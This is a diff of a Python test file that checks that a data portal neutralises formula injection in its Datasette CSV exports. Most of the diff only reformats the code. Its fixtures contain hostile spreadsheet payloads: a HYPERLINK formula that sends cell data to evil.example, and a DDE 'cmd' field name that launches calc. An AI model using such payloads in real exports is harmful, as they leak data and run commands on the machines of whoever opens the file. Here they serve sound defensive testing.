@@ -13,16 +13,34 @@ import sqlite3
 import types
 
 import pytest
+from conftest import FIXTURES, REPO
 from hypothesis import given, strategies as st
 
 from gongkai.build import build_site
 from gongkai.portal.csv_cells import TRIGGERS, neutralise, restore
 from gongkai.serve import make_datasette
 
-from conftest import FIXTURES, REPO
-
-CELLS = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+86", "+86 10 1234", "-3.5", "-", "-x",
-         "@SUM(A1:A2)", "\t=1", "\r=1", "'=1", "''@x", "'plain", "plain", "1e5", "-1e-5", "=", "+", "@"]
+CELLS = [
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+86",
+    "+86 10 1234",
+    "-3.5",
+    "-",
+    "-x",
+    "@SUM(A1:A2)",
+    "\t=1",
+    "\r=1",
+    "'=1",
+    "''@x",
+    "'plain",
+    "plain",
+    "1e5",
+    "-1e-5",
+    "=",
+    "+",
+    "@",
+]
 FIELD_NAME = "=cmd|' /C calc'!A0"
 
 
@@ -40,14 +58,26 @@ def site(tmp_path_factory):
     (folder / "cells.csv").write_text(buf.getvalue(), encoding="utf-8")
     d = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
     d["name"] = "formulas"
-    d["resources"] = [{"name": "cells", "path": "cells.csv", "schema": {"primaryKey": ["id"], "fields": [
-        {"name": "id", "type": "integer"},
-        {"name": "text", "type": "string", "title": "=2+2", "description": "@evil()"},
-        {"name": FIELD_NAME, "type": "string", "title": "-danger", "gov:unit": "+unit"},
-        {"name": "amount", "type": "number", "title": "金额"}]}}]
+    d["resources"] = [
+        {
+            "name": "cells",
+            "path": "cells.csv",
+            "schema": {
+                "primaryKey": ["id"],
+                "fields": [
+                    {"name": "id", "type": "integer"},
+                    {"name": "text", "type": "string", "title": "=2+2", "description": "@evil()"},
+                    {"name": FIELD_NAME, "type": "string", "title": "-danger", "gov:unit": "+unit"},
+                    {"name": "amount", "type": "number", "title": "金额"},
+                ],
+            },
+        }
+    ]
     (folder / "datapackage.json").write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
     result = build_site(root, tmp / "out")
-    assert result.ok, [e.get("message") for x in result.datasets if not x.valid for t in x.report["tasks"] for e in t["errors"]][:5]
+    assert result.ok, [
+        e.get("message") for x in result.datasets if not x.valid for t in x.report["tasks"] for e in t["errors"]
+    ][:5]
     return tmp / "out" / "site"
 
 
@@ -75,12 +105,15 @@ def assert_safe(cells):
             float(cell)  # only a plain number may start like a formula (raises otherwise)
 
 
-@pytest.mark.parametrize("url", [
-    "/formulas/cells.csv",
-    "/formulas/cells.csv?_stream=on",
-    "/formulas/cells.csv?_dl=1&_size=max",
-    "/formulas.csv?sql=select+*+from+cells+order+by+id",
-])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/formulas/cells.csv",
+        "/formulas/cells.csv?_stream=on",
+        "/formulas/cells.csv?_dl=1&_size=max",
+        "/formulas.csv?sql=select+*+from+cells+order+by+id",
+    ],
+)
 async def test_datasette_csv_is_neutralised_and_round_trips(ds, site, url):
     response = await ds.client.get(url)
     assert response.status_code == 200, response.text
@@ -114,8 +147,11 @@ def test_the_hook_is_installed_and_refuses_a_datasette_it_does_not_know(ds):
     import datasette.views.base as views_base
 
     assert getattr(views_base.csv, "_gongkai_neutralising", False), "plugins/csv_safety.py did not hook Datasette's CSV"
-    plugin = next(p for p in __import__("datasette.plugins", fromlist=["pm"]).pm.get_plugins()
-                  if getattr(p, "__name__", "").endswith("csv_safety.py"))
+    plugin = next(
+        p
+        for p in __import__("datasette.plugins", fromlist=["pm"]).pm.get_plugins()
+        if getattr(p, "__name__", "").endswith("csv_safety.py")
+    )
 
     class DataView:
         async def as_csv(self, request, database):
